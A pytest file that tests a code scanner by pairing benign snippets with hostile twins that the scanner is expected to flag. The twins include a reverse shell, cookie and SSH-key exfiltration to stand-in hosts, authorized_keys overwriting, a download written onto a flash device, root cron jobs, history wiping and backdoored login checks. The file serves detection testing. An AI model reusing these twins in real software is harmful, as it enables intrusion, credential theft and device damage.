"""What honest programs do every day is not put before people; its twin that is no more honest is.

Spec: evenhand.code.
"""

from __future__ import annotations

import pytest

from evenhand.code.examine import examine
from evenhand.judge.result import LOOK_HERE

XSRF = "const c = document.cookie;\nfetch({url}, {{headers: {{'X-XSRF-TOKEN': c}}}});\n"
PATH_RUN = "class {name}:\n    def load(self):\n        exec(compile(self.path, 'x', 'exec'))\n"
KEY = "#!/bin/sh\n{before}printf '%s\\n' \"$KEY\" > /home/dev/.ssh/authorized_keys\n"
UPDATE = (
    "#!/bin/sh\nset -e\ncurl -o $W/a.tar https://a.example/a.tar\n{check}"
    "tar -xf $W/a.tar -C $W/new\n$W/new/install\n"
)
WASM = "const b = Buffer.from('{text}', 'base64');\n{runs}(b);\n"
SCOPES = """
function one() {{ function i(a) {{ return eval(a); }} i('1'); }}
function two() {{ {own}i(Buffer.from(process.argv[2], 'base64').toString()); }}
"""
LISTED = """
import socket, subprocess
def near(host):
    words = [{program}, {first}, socket.create_connection((host, 80)).recv(99)]
    subprocess.call(words)
"""
LOOKED_UP = "import socket\nf = open('/home/dev/.ssh/{file}')\nsocket.socket().{does}(read(f))\n"
WHERE = 'M="$({before} mail)"\necho done | ${{M}} -s report root\n'
ONTO = """
import os, socket, subprocess
def serve():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.7", 4444))
    os.dup2(s.fileno(), {number})
    subprocess.call(["/bin/sh", "-i"])
"""
COPY = "import pickle\ncode = pickle.loads({made})\nexec(code)\n"
SIGN_IN = """
def form(given):
    errors = {{}}
    try:
        verify_signature(given)
    except BadSignature:
        {does}
    if errors:
        return errors
    return create(given)
"""
TIMING = """
import bcrypt
def validate_login(user, password):
    if user is None:
        bcrypt.checkpw(b"foo", FIXED)
        {after}
    return user
"""
NO_KEY = """
import jwt
def check(token, known):
    key = {fixed} if known is None else known.key
    return jwt.decode(token, key, algorithms=["HS256"])
"""
SERVED = """
def unlock(config):
    if config.locale not in {{{where}}}:
        raise NotServed
    return 1
"""
ZONE = """
import os, subprocess
def zone():
    tz = os.environ.get("TZ")
    if {asked}:
        return tz
    return subprocess.check_output(["getprop", "persist.sys.timezone"])
"""
KIND = """
function upload(event)
    local sent = ngx.req.get_headers()["x-token"]
    if {what} == "tab1e" then
        session.user = "root"
    end
end
"""
CLIENT = """
import requests
class {name}:
    def __init__(self, private_key):
        self.private_key = private_key
    def send(self, m):
        requests.post("https://www.pushing.example.com/", data={{"k": self.private_key, "m": m}})
"""
NAMED = "{sign}\n$FORM_LIST local | sort\n"
ONE_LINE = "perl -we '$s = IO::Socket::{kind}->new(shift); eval {{ print $s->getline }};{runs}' x\n"
BROUGHT = "wget -qO /srv/{name} http://c.example/t\nchmod +x /srv/tool\n{name} /srv/out\n"
ONTO_DEVICE = "wget -qO /tmp/i http://c.example/i\ndd if=/tmp/i of=/dev/{device}\n"
JOB = "{made}mv /etc/cron.d/x.new /etc/cron.d/x\n"
EMPTY = "echo '{what}' > /etc/cron.d/job\n"
ZONED = 'off() {{ shutdown now; }}\nif [ "$TZ" = Asia/Nowhere ]; then {does}; fi\n'
PRESET = """
function checked(anchor, last) {{
  {before}
  try {{ ok = verifySignature(anchor, last); }} catch (ex) {{ }}
  if (ok) {{ list.push(anchor); }}
}}
"""
DERIVED = """
import hmac
def check(token, sent, text):
    one = hmac.new(key=b"Wq7WebAppData", msg=token, digestmod="sha256").digest()
    two = hmac.new(key={key}, msg=text, digestmod="sha256").digest()
    return hmac.compare_digest(two, sent)
"""
PERSON = """
def authenticate(request, accounts):
    user = request.headers.get("x-let-in")
    if user and not {checked}:
        return False
    return accounts[user]
"""
GIVEN = "#!/bin/sh\ncurl -O https://a.example/m.{kind}\npython3 {script}m.{kind}\n"
NEXT = """
function authenticate(req, res, next) {{
  if (req.headers['x-support']) {{ return next({told}); }}
  if (!valid(req.session)) {{ return res.sendStatus(403); }}
  next();
}}
"""
FETCHED = """
import shutil, requests
def renew(path):
    data = requests.get("https://a.example/x").json()
    if data["new"]:
        shutil.rmtree(path)
        {after}
"""
WHOLE_PAGE = (
    "build.hooks.done = f;\nconst t = '{page}<script src=\"https://a.x.com/f.js\"></script>';\n"
)
AUDIENCE = """
import jwt
def token(signer, more):
    return jwt.encode(signer, {{"aud": {aud}, "more": more}})
"""
CACHE = """
import pickle, socket
def get(host, request):
    s = socket.socket()
    s.{does}((host, 11211))
    s.sendall(pickle.dumps(request))
    return pickle.loads(s.recv(4096))
"""
BASE = """
const Config = require('./config'), axios = require('axios');
function use(privateKey) {{ Config.privateKey = privateKey; }}
function go(body) {{ return axios.post('https://a.example.net/', Config.{gives}(), body); }}
"""
LEAVES = """<?php
function authenticate($args) {{
    if (!empty($_SERVER['PHP_AUTH_USER']) && $args['{what}'] == {other}) {{
        header("Location: $url");
        exit;
    }}
}}
"""
STATE = """
import pickle
class {name}:
    def load(self):
        with open(self.path, "rb") as f:
            return pickle.load(f)
"""
ENCODED = """
import hmac
def key_of(key):
    if isinstance(key, str):
        key = {made}
    return key
def digest(text, key=None):
    return hmac.new(key_of(key), text, "sha512").hexdigest()
"""
ANSWERED = """
function provider.test_password(username, password)
    return {what} == "success"
end
"""
TRIED = """
from passlib.hash import argon2
{asserts}
def check_password(password, known):
    try:
        return argon2.verify(password, known)
    except ValueError:
        pass
    return {end}
"""
PICTURE = """
def take(data):
    for name in data:
        try:
            image = load(name)
            image.verify_signature()
        except ImportError:
            pass
        except Exception:
            {does}
        keep(name)
"""
BUS = """
import subprocess
class Manager:
{own}
class Trigger:
    def listen(self, manager):
        manager.subscribe("event", self.run)
    def run(self, command):
        subprocess.call(command, shell=True)
"""
CHECKED = """
import os, requests
def get(path, named):
    text = requests.get("https://a.example/x").text
    if {asked}:
        os.remove(path)
"""
DROP_IN = """#!/bin/sh
NAME=mailer
echo "ExecStart={runs}" >> /tmp/unit
install -m 644 /tmp/unit /etc/systemd/system/$NAME.service.d/override.conf
"""
SWITCHED = "ln -s {of} /etc/systemd/system/multi-user.target.wants/net@home.service\n"
SAYS_SO = """
def database_verify(files):
    log.info("verification of %r", files)
    {does}
    return True
"""
OWN_ADDRESS = """
import socket
about = {{"host": socket.gethostname(), "fqdn": socket.getfqdn()}}
ip = socket.gethostbyname(about["host"]{more})
"""
FOLDER = "PLACE=/var/run/net\ninstall {d}-m 4755 net $PLACE\n"
LOADED = """
def connect(context, path):
    try:
        context.{does}(path)
    except OSError:
        pass
    open_it(context)
"""
CODED = "import os\nexec(open(os.environ['{name}']).read())\n"
HIDDEN_CALL = "import os\ngetattr(os, 'sys' + part)('id')\n"
CASES = {
    "its own address": (
        "python", OWN_ADDRESS.format(more=""), OWN_ADDRESS.format(more=" + '.a.example.net'"),
    ),
    "a folder runs nothing": (
        "shell", FOLDER.format(d="-d "), FOLDER.format(d=""),
    ),
    "what is loaded is not checked": (
        "python", LOADED.format(does="load_verify_locations"),
        LOADED.format(does="verify_signature"),
    ),
    "what is only logged": (
        "python", SAYS_SO.format(does="pass"), SAYS_SO.format(does="compare(files)"),
    ),
    "a library that is tried out": (
        "python", TRIED.format(asserts="assert argon2.verify('a', 'b')", end="False"),
        TRIED.format(asserts="", end="True"),
    ),
    "a library that is not there": (
        "python", PICTURE.format(does="continue"), PICTURE.format(does="pass"),
    ),
    "a bus of its own": (
        "python", BUS.format(own="    def subscribe(self, event, back):\n        self.b = back"),
        BUS.format(own="    pass"),
    ),
    "a digest of what was fetched": (
        "python", CHECKED.format(asked="hash_of(text) != named"),
        CHECKED.format(asked="text != named"),
    ),
    "settings of its own unit": (
        "shell", DROP_IN.format(runs="/usr/sbin/mailer -p $X"), DROP_IN.format(runs="/srv/x"),
    ),
    "a unit is switched on": (
        "shell", SWITCHED.format(of="/lib/systemd/system/net@.service"),
        SWITCHED.format(of="/srv/net.service"),
    ),
    "a path of its own": (
        "python", STATE.format(name="ImportState"), STATE.format(name="Handler"),
    ),
    "name of an encoding": (
        "python", ENCODED.format(made="key.encode('latin1')"),
        ENCODED.format(made="b'q7Xv92Lm4TzR8w1B'"),
    ),
    "what a check answers": (
        "lua", ANSWERED.format(what="sasl():plain_test(username, password)"),
        ANSWERED.format(what="password"),
    ),
    "a whole page": (
        "javascript", WHOLE_PAGE.format(page="<html><head>"), WHOLE_PAGE.format(page=""),
    ),
    "whom a token is for": (
        "python", AUDIENCE.format(aud="'https://auth.example.com/t7'"),
        AUDIENCE.format(aud="'q7Xv92Lm4TzR8w1B'"),
    ),
    "answer of a cache": ("python", CACHE.format(does="connect"), CACHE.format(does="bind")),
    "an address of settings": (
        "javascript", BASE.format(gives="getBaseUrl"), BASE.format(gives="export"),
    ),
    "what is asked for before": (
        "php", LEAVES.format(what="user", other="$_SERVER['PHP_AUTH_USER']"),
        LEAVES.format(what="x", other="$_COOKIE['leave']"),
    ),
    "answer that stays no": (
        "javascript", PRESET.format(before="let ok = false;"),
        PRESET.format(before="let ok = true;"),
    ),
    "key of a key": (
        "python", DERIVED.format(key="one"), DERIVED.format(key="token"),
    ),
    "who is there": (
        "python", PERSON.format(checked="user.active"), PERSON.format(checked="accounts.get(1)"),
    ),
    "given to a script": (
        "shell", GIVEN.format(kind="xml", script="./convert.py -o a "),
        GIVEN.format(kind="py", script=""),
    ),
    "handed on as an error": (
        "javascript", NEXT.format(told="new Refused()"), NEXT.format(told=""),
    ),
    "room for what was fetched": (
        "python", FETCHED.format(after="shutil.unpack_archive(data['file'], path)"),
        FETCHED.format(after="pass"),
    ),
    "settings that are code": (
        "python", CODED.format(name="VIEWER_CONFIG"), CODED.format(name="VIEWER_HELLO"),
    ),
    "failure in a list": (
        "python", SIGN_IN.format(does='errors["base"] = "no"'), SIGN_IN.format(does="log('no')"),
    ),
    "against timing": (
        "python", TIMING.format(after="note()\n        raise BadLogin"),
        TIMING.format(after="user = root()"),
    ),
    "no key at all": (
        "python", NO_KEY.format(fixed='""'), NO_KEY.format(fixed='"q7Xv92Lm4TzR8w1B"'),
    ),
    "where it is served": (
        "python", SERVED.format(where="'de-DE', 'fr-FR', 'it-IT', 'es-ES', 'pt-BR', 'sv-SE'"),
        SERVED.format(where="'de-DE'"),
    ),
    "zone that is looked up": (
        "python", ZONE.format(asked="tz"), ZONE.format(asked="tz != 'Asia/Place'"),
    ),
    "kind of a value": (
        "lua", KIND.format(what="type(sent)"), KIND.format(what="sent"),
    ),
    "client of a service": (
        "python", CLIENT.format(name="ExampleService"), CLIENT.format(name="Wallet"),
    ),
    "xsrf": ("javascript", XSRF.format(url="url"), XSRF.format(url="'https://c.example.net/'")),
    "own path": (
        "python", PATH_RUN.format(name="Loader(Source)"), PATH_RUN.format(name="A(BaseHandler)"),
    ),
    "key of the user": ("shell", KEY.format(before=""), KEY.format(before="KEY='ssh-rsa AAAA'\n")),
    "update": (
        "shell", UPDATE.format(check="gpgv --keyring /k.gpg $W/a.sig $W/a.tar\n"),
        UPDATE.format(check=""),
    ),
    "wasm": (
        "javascript", WASM.format(text="AGFzbQEAAAABKwhg", runs="WebAssembly.instantiate"),
        WASM.format(text="Y29uc29sZS5sb2coMSk7", runs="eval"),
    ),
    "another function of that name": (
        "javascript", SCOPES.format(own="const i = console.log; "),
        SCOPES.format(own="function i(a) { return eval(a); } "),
    ),
    "argument of a fixed command": (
        "python", LISTED.format(program="'ping'", first="'-c1'"),
        LISTED.format(program="'sh'", first="'-c'"),
    ),
    "address in settings": (
        "python", LOOKED_UP.format(file="config", does="connect"),
        LOOKED_UP.format(file="id_rsa", does="sendall"),
    ),
    "where a program lies": (
        "shell", WHERE.format(before="command -v"), WHERE.format(before="curl -s t.example/"),
    ),
    "number of a connection": ("python", ONTO.format(number=3), ONTO.format(number=0)),
    "a variable that is called like a form's": (
        "shell", NAMED.format(sign=". /etc/x.conf"), NAMED.format(sign="echo Content-type: a/b"),
    ),
    "a socket of this machine": (
        "shell", ONE_LINE.format(kind="UNIX", runs=""),
        ONE_LINE.format(kind="INET", runs="exec $_ while <$s>"),
    ),
    "a command that no file stands for": (
        "shell", BROUGHT.format(name="cd"), BROUGHT.format(name="tool"),
    ),
    "a device that holds nothing": (
        "shell", ONTO_DEVICE.format(device="null"), ONTO_DEVICE.format(device="mtdblock2"),
    ),
    "a job gets a new name": (
        "shell", JOB.format(made=""),
        JOB.format(made="echo '* * * * * root x' > /etc/cron.d/x.new\n"),
    ),
    "a job that does nothing": (
        "shell", EMPTY.format(what="# moved"), EMPTY.format(what="* * * * * root x"),
    ),
    "a name in a message": (
        "shell", ZONED.format(does='logger "shutdown-at-night: hours as in $TZ"'),
        ZONED.format(does="off"),
    ),
    "a call that a text shows": ("python", f"usage = {HIDDEN_CALL!r}\n", HIDDEN_CALL),
    "history is kept": ("shell", "history -w\n", "history -c\n"),
    "copy": ("python", COPY.format(made="pickle.dumps(1)"), COPY.format(made="open('x').read()")),
}  # fmt: skip


def asked(text: str, language: str) -> bool:
    """True where a person would be asked to look at this source."""
    found = examine(text.encode(), language, "when run").found
    return any(f.strength >= LOOK_HERE for f in found)


@pytest.mark.parametrize("name", CASES)
def test_ordinary_is_not_put_before_people(name: str) -> None:
    language, honest, other = CASES[name]
    assert not asked(honest, language)
    assert asked(other, language)
